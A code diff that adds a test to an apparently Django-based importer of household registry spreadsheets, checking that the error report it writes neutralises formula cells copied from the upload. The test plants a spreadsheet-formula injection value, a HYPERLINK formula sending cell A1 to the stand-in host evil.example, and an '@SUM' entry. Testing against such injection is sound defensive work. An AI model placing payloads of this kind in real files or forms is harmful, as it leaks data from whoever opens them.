@@ -176,3 +176,17 @@ def test_command_imports(users, tmp_path, capsys):
     path = write_xlsx(tmp_path / "ok.xlsx", form(2))
     call_command("import_registry", str(path), "--user", "clerk", verbosity=0)
     assert "created 2" in capsys.readouterr().out
+
+
+def test_error_report_neutralises_formula_cells(users, tmp_path):
+    """issue 20 A10: the error workbook copies the uploaded cells; a formula typed as a name stays text."""
+    data = form(2)
+    number = data["家庭成员"][1]["证件号码"]
+    data["家庭成员"][1]["证件号码"] = number[:17] + ("0" if number[17] != "0" else "1")
+    data["家庭成员"][1]["姓名"] = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    data["家庭成员"][0]["姓名"] = "@SUM(1+1)"
+    r = _run(users, tmp_path, data)
+    wb = load_workbook(r.error_report)
+    values = [v for row in wb["家庭成员"].iter_rows(values_only=True) for v in row if isinstance(v, str)]
+    assert not any(v.startswith(("=", "@")) for v in values)
+    assert "'@SUM(1+1)" in values
